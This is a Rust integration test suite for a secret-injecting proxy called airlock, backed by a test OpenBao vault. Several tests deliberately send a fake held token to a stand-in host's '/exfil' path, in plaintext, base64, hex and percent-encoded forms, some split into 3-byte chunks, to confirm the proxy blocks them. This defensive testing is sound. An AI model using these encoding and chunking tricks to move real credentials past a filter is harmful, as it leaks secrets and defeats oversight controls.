//! Credentials from a real OpenBao, injected by airlock for their own host
//! only, never seen by the sandbox.

use std::sync::Arc;

use http::Response;

use crate::support::bao::Bao;
use crate::support::ca::TestCa;
use crate::support::client;
use crate::support::origin::{self, Origin, echo, full, record};
use crate::support::proxy::{ProxyBuilder, TestProxy};

const TOKEN: &str = "vault-held-gh-token-7Qx2Lm9Pz4Rw8Ks1";
const USER: &str = "jira-bot-user-account";
const PASS: &str = "jira-api-password-Zt6Yb3Nc0Hv5";

/// Echoes back what it received in the Authorization and x-api-key headers.
fn echo_auth(name: &'static str) -> origin::Handler {
    Arc::new(move |req, rec| {
        Box::pin(async move {
            let r = record(req, &rec).await;
            let got = |h: &str| {
                r.headers
                    .get(h)
                    .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
                    .unwrap_or_default()
            };
            let body = format!(
                "{name} saw authorization=[{}] x-api-key=[{}]",
                got("authorization"),
                got("x-api-key")
            );
            let mut resp = Response::new(full(body));
            if let Ok(v) = got("authorization").parse() {
                resp.headers_mut().insert("x-echo-auth", v);
            }
            resp
        })
    })
}

struct World {
    bao: Bao,
    api: Origin,
    other: Origin,
    plain: Origin,
    proxy: TestProxy,
}

async fn world(api_rule: &str, extra_secrets: &[&str]) -> World {
    let bao = Bao::start().await;
    bao.put_secret("tools/github", &[("token", TOKEN)]).await;
    bao.put_secret("tools/jira", &[("user", USER), ("password", PASS)])
        .await;
    // Dev-mode OpenBao forgets created tokens on restart; the outage test
    // restarts it, so that test uses the (fixed) root token.
    let token = if extra_secrets.contains(&"cache_ttl = \"1s\"") {
        bao.root_token().to_owned()
    } else {
        bao.create_token(3600, true).await
    };
    let ca = TestCa::new("origin ca");
    let api = Origin::https(&ca, "api.example.test", "127.0.0.2", echo_auth("api")).await;
    let other = Origin::https(&ca, "other.example.test", "127.0.0.3", echo_auth("other")).await;
    let plain = Origin::plain("127.0.0.4", echo_auth("plain")).await;
    let address = format!("vault.address = \"{}\"", bao.address());
    let mut secrets = vec![
        "backend = \"vault\"",
        &address,
        "vault.token_file = \"vault-token\"",
    ];
    secrets.extend_from_slice(extra_secrets);
    let proxy = ProxyBuilder::new()
        .proxy_line("admin = \"127.0.0.1:0\"")
        .resolve("api.example.test", "127.0.0.2")
        .resolve("other.example.test", "127.0.0.3")
        .resolve("plain.example.test", "127.0.0.4")
        .allow_loopback()
        .trust(&ca)
        .scan(&[])
        .file("vault-token", &token)
        .secrets(&secrets)
        .rule(&format!("match = \"api.example.test\"\nports = [{}]\n{api_rule}", api.port()))
        .rule(&format!("match = \"other.example.test\"\nports = [{}]", other.port()))
        .rule(&format!(
            "match = \"plain.example.test\"\nports = [{}]\ninject = {{ header = \"Authorization\", value = \"Bearer {{{{secret}}}}\", secret = \"tools/github#token\" }}",
            plain.port()
        ))
        .start()
        .await;
    World {
        bao,
        api,
        other,
        plain,
        proxy,
    }
}

const PLACEHOLDER: &str = "inject = { header = \"x-api-key\", placeholder = \"AIRLOCK_PLACEHOLDER_GITHUB\", secret = \"tools/github#token\" }";

const BEARER: &str = "inject = { header = \"Authorization\", value = \"Bearer {{secret}}\", secret = \"tools/github#token\" }";

fn no_secret_in(text: &str) {
    for s in [TOKEN, USER, PASS] {
        assert!(!text.contains(s), "a secret value leaked into: {text}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn origin_gets_exactly_airlocks_credential_and_other_hosts_get_none() {
    let w = world(BEARER, &[]).await;
    let c = client::reqwest(&w.proxy);
    let r = c
        .get(format!("https://api.example.test:{}/repos", w.api.port()))
        .header("authorization", "Bearer sandbox-made-this-up")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let got = w.api.received();
    let auth: Vec<_> = got[0].headers.get_all("authorization").iter().collect();
    assert_eq!(auth.len(), 1, "exactly one credential: {auth:?}");
    assert_eq!(auth[0], &format!("Bearer {TOKEN}"));

    // The origin echoed the credential back: the sandbox sees it redacted.
    assert_eq!(
        r.headers()["x-echo-auth"],
        "Bearer [REDACTED:held:tools/github#token]"
    );
    let body = r.text().await.unwrap();
    no_secret_in(&body);
    assert!(
        body.contains("[REDACTED:held:tools/github#token]"),
        "{body}"
    );

    // Another host receives nothing.
    let r = c
        .get(format!("https://other.example.test:{}/", w.other.port()))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert!(!w.other.received()[0].headers.contains_key("authorization"));

    // The held value may not travel to another host, in any encoding.
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD.encode(TOKEN);
    for body in [
        TOKEN.to_owned(),
        b64,
        TOKEN.bytes().map(|b| format!("{b:02x}")).collect(),
    ] {
        let r = c
            .post(format!(
                "https://other.example.test:{}/exfil",
                w.other.port()
            ))
            .body(body)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 403);
        assert!(r.text().await.unwrap().contains("held:tools/github#token"));
    }
    // The request head may have left before the body was scanned; the
    // secret, in any of those encodings, never did.
    no_token_bytes_reached(&w.other);
    for r in w.other.received() {
        assert!(
            r.body.is_none() || r.target == "/",
            "an exfiltration body arrived whole"
        );
    }

    let ev = w
        .proxy
        .audit_event("inject", |e| e["kind"] == "inject")
        .await;
    assert_eq!(ev["secrets"][0], "tools/github#token");
    assert!(ev["rule"].as_str().unwrap().contains("airlock.toml:"));
    // Written once the path is scanned, with it.
    assert_eq!(ev["path"], "/repos");
    no_secret_in(&std::fs::read_to_string(&w.proxy.audit_path).unwrap());
}

/// The held value's search looks at one window every few bytes (33 for
/// this 36-byte token), not at every byte: the value glued after 0 to 40
/// characters (every offset of that spacing), URL-safe base64 after one
/// to three glued characters, percent-encoded, each sent in 3-byte chunks
/// so it straddles every chunk boundary, is refused, and none of it
/// reaches the other host.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_held_value_glued_encoded_and_in_small_chunks_is_refused() {
    use base64::Engine as _;
    let w = world(BEARER, &[]).await;
    let c = client::reqwest(&w.proxy);
    // The first request to its host fetches the value: airlock holds it.
    gets_the_bearer_token(&w.proxy, &w.api).await;
    let mut bodies: Vec<Vec<u8>> = Vec::new();
    assert_eq!(
        TOKEN.len(),
        36,
        "the spacing above is the token's length - 3"
    );
    for glue in 0..=40 {
        bodies.push(format!("note={}{TOKEN}&x=1", "g".repeat(glue)).into_bytes());
    }
    for glue in ["a", "ab", "abc"] {
        let enc = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(format!("{glue}{TOKEN}"));
        bodies.push(format!("blob={glue}{enc}").into_bytes());
    }
    let pct: String = TOKEN.bytes().map(|b| format!("%{b:02X}")).collect();
    bodies.push(format!("q={pct}").into_bytes());
    for body in bodies {
        let parts: Vec<Result<bytes::Bytes, std::io::Error>> = body
            .chunks(3)
            .map(|p| Ok(bytes::Bytes::copy_from_slice(p)))
            .collect();
        let r = c
            .post(format!(
                "https://other.example.test:{}/exfil",
                w.other.port()
            ))
            .body(reqwest::Body::wrap_stream(futures_util::stream::iter(
                parts,
            )))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 403, "{}", String::from_utf8_lossy(&body));
        assert!(r.text().await.unwrap().contains("held:tools/github#token"));
    }
    no_token_bytes_reached(&w.other);
}

/// No body `other` received holds the token's first 12 bytes.
fn no_token_bytes_reached(other: &Origin) {
    for r in other.received() {
        let body = r.body.as_deref().unwrap_or_default();
        assert!(
            !String::from_utf8_lossy(body).contains(&TOKEN[..12]),
            "secret bytes reached another host"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn basic_auth_from_two_keys() {
    let w = world("inject = { basic = { username = \"tools/jira#user\", password = \"tools/jira#password\" } }", &[]).await;
    let r = client::reqwest(&w.proxy)
        .get(format!("https://api.example.test:{}/", w.api.port()))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    use base64::Engine as _;
    let want = format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(format!("{USER}:{PASS}"))
    );
    assert_eq!(w.api.received()[0].headers["authorization"], want.as_str());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_the_sandbox_writes_around_a_placeholder_is_still_scanned() {
    // The header airlock swaps the placeholder in also carries the
    // sandbox's own bytes: they must not ride out unscanned with it.
    let aws = crate::support::fresh::aws_access_key_id();
    let w = world(PLACEHOLDER, &[]).await;
    let c = client::reqwest(&w.proxy);
    let api = format!("https://api.example.test:{}", w.api.port());
    let r = c
        .get(format!("{api}/x"))
        .header("x-api-key", format!("AIRLOCK_PLACEHOLDER_GITHUB;{aws}"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    assert_eq!(r.headers()["airlock-error"], "secret_blocked");
    assert!(w.api.received().is_empty(), "nothing reached the origin");
    // The same header without the sandbox's extra: swapped and sent.
    let r = c
        .get(format!("{api}/y"))
        .header("x-api-key", "AIRLOCK_PLACEHOLDER_GITHUB;plain-words")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(
        w.api.received()[0].headers["x-api-key"],
        format!("{TOKEN};plain-words").as_str()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn placeholder_is_swapped_in_its_header_and_refused_anywhere_else() {
    let w = world(PLACEHOLDER, &[]).await;
    let c = client::reqwest(&w.proxy);
    let api = format!("https://api.example.test:{}", w.api.port());
    let r = c
        .get(format!("{api}/x"))
        .header("x-api-key", "AIRLOCK_PLACEHOLDER_GITHUB")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(w.api.received()[0].headers["x-api-key"], TOKEN);

    // Without the placeholder, nothing is added.
    let r = c.get(format!("{api}/y")).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert!(!w.api.received()[1].headers.contains_key("x-api-key"));

    // In another header, in the URL, or toward another host: refused.
    let r = c
        .get(format!("{api}/z"))
        .header("authorization", "Bearer AIRLOCK_PLACEHOLDER_GITHUB")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    assert_eq!(r.headers()["airlock-error"], "placeholder_misuse");
    let r = c
        .get(format!("{api}/z?key=AIRLOCK_PLACEHOLDER_GITHUB"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    let r = c
        .get(format!("https://other.example.test:{}/", w.other.port()))
        .header("x-api-key", "AIRLOCK_PLACEHOLDER_GITHUB")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    // In a body, to any host, it is blocked like a secret.
    let r = c
        .post(format!("{api}/b"))
        .body("{\"key\":\"AIRLOCK_PLACEHOLDER_GITHUB\"}")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    assert!(
        r.text()
            .await
            .unwrap()
            .contains("placeholder:AIRLOCK_PLACEHOLDER_GITHUB")
    );
    assert_eq!(
        w.api
            .received()
            .iter()
            .filter(|r| r.body.as_ref().is_some_and(|b| !b.is_empty()))
            .count(),
        0
    );
    assert!(w.other.received().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn plain_http_never_gets_a_credential() {
    let w = world(BEARER, &[]).await;
    let c = reqwest::Client::builder()
        .proxy(reqwest::Proxy::http(w.proxy.url()).unwrap())
        .build()
        .unwrap();
    let r = c
        .get(format!("http://plain.example.test:{}/", w.plain.port()))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    assert_eq!(r.headers()["airlock-error"], "inject_over_http");
    assert!(w.plain.received().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_idle_proxy_lets_go_of_expired_secrets() {
    let w = world(BEARER, &["cache_ttl = \"3s\""]).await;
    let api = format!("https://api.example.test:{}/", w.api.port());
    let r = client::reqwest(&w.proxy).get(&api).send().await.unwrap();
    assert_eq!(r.status(), 200);
    let metrics = format!("http://{}/metrics", w.proxy.server.admin_addr().unwrap());
    let admin = reqwest::Client::builder().no_proxy().build().unwrap();
    let cached = |want: &'static str| {
        let (admin, metrics) = (admin.clone(), metrics.clone());
        async move {
            let text = admin.get(&metrics).send().await.ok()?.text().await.ok()?;
            text.lines()
                .any(|l| l == format!("airlock_secrets_cached {want}"))
                .then_some(())
        }
    };
    crate::support::eventually_async("the fetched secret is cached", || cached("1")).await;
    // No request from here on: only the sweeper can drop it.
    crate::support::eventually_async("the expired secret is dropped", || cached("0")).await;
    assert_eq!(w.api.received().len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn vault_outage_fails_closed_and_recovers_without_restart() {
    let mut w = world(BEARER, &["cache_ttl = \"1s\"", "vault.timeout = \"2s\""]).await;
    let c = client::reqwest(&w.proxy);
    let api = format!("https://api.example.test:{}/", w.api.port());
    let other = format!("https://other.example.test:{}/", w.other.port());
    assert_eq!(c.get(&api).send().await.unwrap().status(), 200);

    w.bao.stop().await;
    tokio::time::sleep(std::time::Duration::from_millis(1200)).await; // past cache_ttl
    let r = c.get(&api).send().await.unwrap();
    assert_eq!(r.status(), 503);
    assert_eq!(r.headers()["airlock-error"], "secret_unavailable");
    let text = r.text().await.unwrap();
    assert!(text.contains("tools/github#token"), "{text}");
    no_secret_in(&text);
    // Requests that need no secret keep working.
    assert_eq!(c.get(&other).send().await.unwrap().status(), 200);
    // The admin API says why the proxy is not fully ready.
    let admin = format!("http://{}/readyz", w.proxy.server.admin_addr().unwrap());
    let plain = reqwest::Client::builder().no_proxy().build().unwrap();
    let ready = plain.get(&admin).send().await.unwrap();
    assert_eq!(ready.status(), 503);
    assert!(ready.text().await.unwrap().contains("secrets vault"));
    assert_eq!(
        w.api.received().len(),
        1,
        "the failed request was not sent upstream"
    );

    w.bao.restart().await;
    w.bao.put_secret("tools/github", &[("token", TOKEN)]).await;
    let r = crate::support::eventually_async("injection resumes", || {
        let c = c.clone();
        let api = api.clone();
        async move { c.get(&api).send().await.ok().filter(|r| r.status() == 200) }
    })
    .await;
    assert_eq!(r.status(), 200);
    assert_eq!(
        w.api.received().last().unwrap().headers["authorization"],
        format!("Bearer {TOKEN}").as_str()
    );
    assert_eq!(
        plain.get(&admin).send().await.unwrap().status(),
        200,
        "ready again"
    );
}

/// Vault flaps (down, up, three times) under steady load: each request is
/// either sent with exactly airlock's credential or refused with 503
/// (`secret_unavailable`, or `secret_not_found` while the restarted dev
/// server is still empty) and not sent; none leaves without its credential or
/// with a wrong one, no log holds the value, and service comes back each
/// time without a restart.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn vault_flapping_under_load_fails_closed_per_request() {
    use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
    let mut w = world(BEARER, &["cache_ttl = \"1s\"", "vault.timeout = \"1s\""]).await;
    let api = format!("https://api.example.test:{}/", w.api.port());
    let stop = std::sync::Arc::new(AtomicBool::new(false));
    let tally: std::sync::Arc<[AtomicU64; 3]> = std::sync::Arc::new(Default::default());
    let mut load = Vec::new();
    for _ in 0..4 {
        let (c, api) = (client::reqwest(&w.proxy), api.clone());
        let (stop, tally) = (std::sync::Arc::clone(&stop), std::sync::Arc::clone(&tally));
        load.push(tokio::spawn(async move {
            while !stop.load(Ordering::Relaxed) {
                let slot = match c.get(&api).send().await {
                    Ok(r) if r.status() == 200 => 0,
                    // A dev server restarts empty: until the secret is
                    // written again, it is not found (refused all the same).
                    Ok(r)
                        if r.status() == 503
                            && ["secret_unavailable", "secret_not_found"]
                                .contains(&r.headers()["airlock-error"].to_str().unwrap()) =>
                    {
                        1
                    }
                    Ok(r) => {
                        let code = r.headers().get("airlock-error").cloned();
                        eprintln!("other: {} {code:?}", r.status());
                        2
                    }
                    Err(e) => {
                        eprintln!("other: {e}");
                        2
                    }
                };
                tally[slot].fetch_add(1, Ordering::Relaxed);
                tokio::time::sleep(std::time::Duration::from_millis(20)).await;
            }
        }));
    }
    for _ in 0..3 {
        tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
        w.bao.stop().await;
        tokio::time::sleep(std::time::Duration::from_millis(2500)).await;
        w.bao.restart().await;
        w.bao.put_secret("tools/github", &[("token", TOKEN)]).await;
    }
    tokio::time::sleep(std::time::Duration::from_millis(2500)).await;
    stop.store(true, Ordering::Relaxed);
    for l in load {
        l.await.unwrap();
    }
    let [ok, refused, other] = [0, 1, 2].map(|i| tally[i].load(Ordering::Relaxed));
    assert_eq!(other, 0, "{ok} served, {refused} refused, {other} other");
    assert!(ok > 0 && refused > 0, "{ok} served, {refused} refused");
    // Everything the origin received carried exactly airlock's credential,
    // and nothing refused reached it.
    let got = w.api.received();
    assert_eq!(got.len() as u64, ok, "{refused} refused");
    for r in &got {
        assert_eq!(
            r.headers["authorization"],
            format!("Bearer {TOKEN}").as_str()
        );
    }
    // Served again at the end, without a restart.
    assert_eq!(
        client::reqwest(&w.proxy)
            .get(&api)
            .send()
            .await
            .unwrap()
            .status(),
        200
    );
    no_secret_in(&std::fs::read_to_string(&w.proxy.audit_path).unwrap());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_missing_secret_is_a_503_naming_the_path() {
    let w = world("inject = { header = \"Authorization\", value = \"Bearer {{secret}}\", secret = \"tools/nothere#token\" }", &[]).await;
    let r = client::reqwest(&w.proxy)
        .get(format!("https://api.example.test:{}/", w.api.port()))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 503);
    assert_eq!(r.headers()["airlock-error"], "secret_not_found");
    assert!(r.text().await.unwrap().contains("tools/nothere#token"));
    assert!(w.api.received().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_thousand_concurrent_first_requests_read_vault_once() {
    let w = world(BEARER, &[]).await;
    let c = client::reqwest(&w.proxy);
    let url = format!("https://api.example.test:{}/burst", w.api.port());
    let tasks: Vec<_> = (0..1000)
        .map(|_| {
            let c = c.clone();
            let url = url.clone();
            tokio::spawn(async move { c.get(url).send().await.map(|r| r.status().as_u16()) })
        })
        .collect();
    for t in tasks {
        assert_eq!(t.await.unwrap().unwrap(), 200);
    }
    assert_eq!(w.proxy.server.state().secrets().unwrap().fetches(), 1);
    assert_eq!(w.api.received().len(), 1000);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn approle_login_through_config() {
    let bao = Bao::start().await;
    bao.put_secret("tools/github", &[("token", TOKEN)]).await;
    let (role, secret) = bao.enable_approle(60, 600).await;
    let ca = TestCa::new("origin ca");
    let api = Origin::https(&ca, "api.example.test", "127.0.0.2", echo("api")).await;
    let address = format!("vault.address = \"{}\"", bao.address());
    let proxy = ProxyBuilder::new()
        .resolve("api.example.test", "127.0.0.2")
        .allow_loopback()
        .trust(&ca)
        .file("role-id", &role)
        .file("secret-id", &secret)
        .secrets(&[
            "backend = \"vault\"",
            &address,
            "vault.auth = \"approle\"",
            "vault.role_id_file = \"role-id\"",
            "vault.secret_id_file = \"secret-id\"",
        ])
        .rule(&format!(
            "match = \"api.example.test\"\nports = [{}]\n{BEARER}",
            api.port()
        ))
        .start()
        .await;
    gets_the_bearer_token(&proxy, &api).await;
    let r = client::refused(&proxy, "denied.example.test:443").await;
    assert_eq!(r.status, 403);
}

/// The file backend (the embedded default's): mode 0600 enforced.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn file_backend_injects_and_refuses_a_readable_file() {
    let ca = TestCa::new("origin ca");
    let api = Origin::https(&ca, "api.example.test", "127.0.0.2", echo("api")).await;
    let builder = || {
        ProxyBuilder::new()
            .resolve("api.example.test", "127.0.0.2")
            .allow_loopback()
            .trust(&ca)
            .secrets(&["backend = \"file\"", "file = \"local-secrets.toml\""])
            .rule(&format!(
                "match = \"api.example.test\"\nports = [{}]\n{BEARER}",
                api.port()
            ))
    };
    let proxy = builder()
        .file(
            "local-secrets.toml",
            &format!("[\"tools/github\"]\ntoken = \"{TOKEN}\"\n"),
        )
        .start()
        .await;
    gets_the_bearer_token(&proxy, &api).await;

    // Same config, but the secrets file is world-readable: refused at start.
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("airlock.toml"), builder().config_text()).unwrap();
    std::fs::write(dir.path().join("upstream-ca-0.pem"), &ca.pem).unwrap();
    std::fs::write(
        dir.path().join("local-secrets.toml"),
        format!("[\"tools/github\"]\ntoken = \"{TOKEN}\"\n"),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        dir.path().join("local-secrets.toml"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    airlock::tls::ca::CertificateAuthority::init(
        &airlock::tls::ca::CaFiles::in_dir(dir.path()),
        false,
    )
    .unwrap();
    let config = airlock::config::Config::load(&dir.path().join("airlock.toml")).unwrap();
    let err = airlock::server::Server::start(config)
        .await
        .unwrap_err()
        .to_string();
    assert!(err.contains("chmod 600"), "{err}");
    no_secret_in(&err);
}

/// `airlock serve` as a process with verbose logs: everything it prints
/// (stdout audit + stderr logs at debug, airlock at trace) while it
/// injects, redacts an echo and blocks an exfiltration never holds a value.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_whole_log_output_never_contains_a_secret() {
    use tokio::io::AsyncReadExt;
    let bao = Bao::start().await;
    bao.put_secret("tools/github", &[("token", TOKEN)]).await;
    let ca = TestCa::new("origin ca");
    let api = Origin::https(&ca, "api.example.test", "127.0.0.2", echo_auth("api")).await;
    let other = Origin::https(&ca, "other.example.test", "127.0.0.3", echo_auth("other")).await;
    let address = format!("vault.address = \"{}\"", bao.address());
    let builder = ProxyBuilder::new()
        .resolve("api.example.test", "127.0.0.2")
        .resolve("other.example.test", "127.0.0.3")
        .allow_loopback()
        .trust(&ca)
        .scan(&[])
        .secrets(&[
            "backend = \"vault\"",
            &address,
            "vault.token_file = \"vault-token\"",
        ])
        .rule(&format!(
            "match = \"api.example.test\"\nports = [{}]\n{BEARER}",
            api.port()
        ))
        .rule(&format!(
            "match = \"other.example.test\"\nports = [{}]",
            other.port()
        ));
    let dir = tempfile::tempdir().unwrap();
    let text = builder
        .config_text()
        .replace("output = \"audit.log\"", "output = \"stdout\"");
    std::fs::write(dir.path().join("airlock.toml"), text).unwrap();
    std::fs::write(dir.path().join("upstream-ca-0.pem"), &ca.pem).unwrap();
    std::fs::write(dir.path().join("vault-token"), bao.root_token()).unwrap();
    airlock::tls::ca::CertificateAuthority::init(
        &airlock::tls::ca::CaFiles::in_dir(dir.path()),
        false,
    )
    .unwrap();

    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_airlock"))
        .args(["serve", "--config", "airlock.toml"])
        .current_dir(dir.path())
        .env("RUST_LOG", "airlock=trace,debug")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut stderr = child.stderr.take().unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let err_task = tokio::spawn(async move {
        let mut all = Vec::new();
        let mut buf = [0u8; 4096];
        loop {
            match stderr.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(n) => all.extend_from_slice(&buf[..n]),
            }
        }
        all
    });
    let out_task = tokio::spawn(async move {
        let mut all = Vec::new();
        let _ = stdout.read_to_end(&mut all).await;
        all
    });
    // stderr is being drained whole, so learn the proxy port from /proc.
    let pid = child.id().unwrap();
    let proxy_addr = crate::support::eventually_async("airlock listening", || async move {
        crate::support::listening_port(pid)
    })
    .await;
    let proxy_url = format!("http://{proxy_addr}");
    let ca_pem = std::fs::read_to_string(dir.path().join("ca.pem")).unwrap();
    let c = reqwest::Client::builder()
        .proxy(reqwest::Proxy::all(&proxy_url).unwrap())
        .tls_certs_only([reqwest::Certificate::from_pem(ca_pem.as_bytes()).unwrap()])
        .build()
        .unwrap();
    let r = c
        .get(format!("https://api.example.test:{}/", api.port()))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    no_secret_in(&r.text().await.unwrap());
    let r = c
        .post(format!("https://other.example.test:{}/", other.port()))
        .body(format!("here {TOKEN}"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    let _ = c
        .get(format!(
            "https://other.example.test:{}/?t={TOKEN}",
            other.port()
        ))
        .send()
        .await
        .unwrap();

    std::process::Command::new("kill")
        .args(["-TERM", &pid.to_string()])
        .status()
        .unwrap();
    let _ = tokio::time::timeout(std::time::Duration::from_secs(40), child.wait()).await;
    let logs = String::from_utf8_lossy(&err_task.await.unwrap()).into_owned();
    let audit = String::from_utf8_lossy(&out_task.await.unwrap()).into_owned();
    assert!(
        logs.contains("secret backend connected") && logs.len() > 1000,
        "logs were captured: {} bytes",
        logs.len()
    );
    assert!(
        audit.contains("\"kind\":\"inject\"") && audit.contains("\"kind\":\"finding\""),
        "{audit}"
    );
    no_secret_in(&logs);
    no_secret_in(&audit);
}

/// One GET through `proxy` to `api` succeeds, and the origin's first
/// request carried exactly airlock's `Bearer` credential.
async fn gets_the_bearer_token(proxy: &TestProxy, api: &Origin) {
    let r = client::reqwest(proxy)
        .get(format!("https://api.example.test:{}/", api.port()))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(
        api.received()[0].headers["authorization"],
        format!("Bearer {TOKEN}").as_str()
    );
}
